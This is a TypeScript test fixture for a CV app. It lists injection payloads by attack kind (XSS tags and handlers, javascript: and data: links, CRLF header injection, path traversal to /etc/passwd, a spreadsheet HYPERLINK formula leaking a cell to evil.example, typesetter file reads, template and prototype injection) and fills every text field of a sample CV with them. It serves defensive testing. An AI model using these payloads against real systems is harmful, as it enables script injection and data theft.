import { readFileSync } from 'node:fs'
import { type CvDocument, currentSchemaVersion, cvDocumentSchema } from '@app/cv'

const sample = new URL(
	`../../../../packages/cv/src/fixtures/documents/version-${currentSchemaVersion}.json`,
	import.meta.url,
)

/** Texts that do harm where a program takes them for more than text, by the kind of attack. */
export const attacks = {
	'a script': '<script>alert(1)</script>',
	'an end of a script': '</script><script>alert(1)</script><!--',
	'an attribute that breaks out': '"\' onmouseover="alert(1)" autofocus onfocus=alert(1) x="',
	'an image that fails': '<img src=x onerror=alert(1)><svg/onload=alert(1)>',
	'an end of the head': '</title></head><body><iframe srcdoc="<script>alert(1)</script>">',
	'a javascript link': 'javascript:alert(1)//http://example.com',
	'a disguised javascript link': ' \u0001java\tscript:alert(1)',
	'a data link': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'a link that breaks out': 'https://example.com/"onclick="alert(1)"><script>alert(1)</script>',
	'a header': 'Ada\r\nSet-Cookie: stolen=1\r\n\r\n<html>',
	'a file name': '../../etc/passwd"; filename="x.exe\r\n.pdf',
	'a formula': '=HYPERLINK("https://evil.example/?"&A1,"x")',
	'a command of the typesetter': '#read("/etc/passwd") #import "@preview/x:0.1.0" $x$ *b*',
	'a string of the typesetter': '"}); #eval("1+1") // \\u{22} ]) #panic()',
	// biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
	'a template': '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %>',
	'text that runs backwards': '\u202Efdp.exe\u202C \u2066hidden\u2069 \u200B\u00AD',
	'control characters': 'a\u0000b\u0007c\u001B]0;title\u0007d\u2028e\u2029f\uFEFF',
	'a replacement pattern': "$& $' $` $1 $$",
	'a prototype': '__proto__',
} as const

const notTexts = [
	'startDate',
	'endDate',
	'date',
	'expires',
	'proficiency',
	'givenOn',
	'itemId',
	'item',
	'shape',
	'image',
]

/** A CV with this text in every field that takes any. */
export function hostileCv(text: string): CvDocument {
	let count = 0
	const filled: unknown = JSON.parse(readFileSync(sample, 'utf8'), (key, value: unknown) => {
		if (typeof value !== 'string' || notTexts.includes(key)) return value
		count += 1
		return key === 'id' ? `${count}${text}`.slice(0, 64) : text
	})
	return cvDocumentSchema.parse(filled)
}
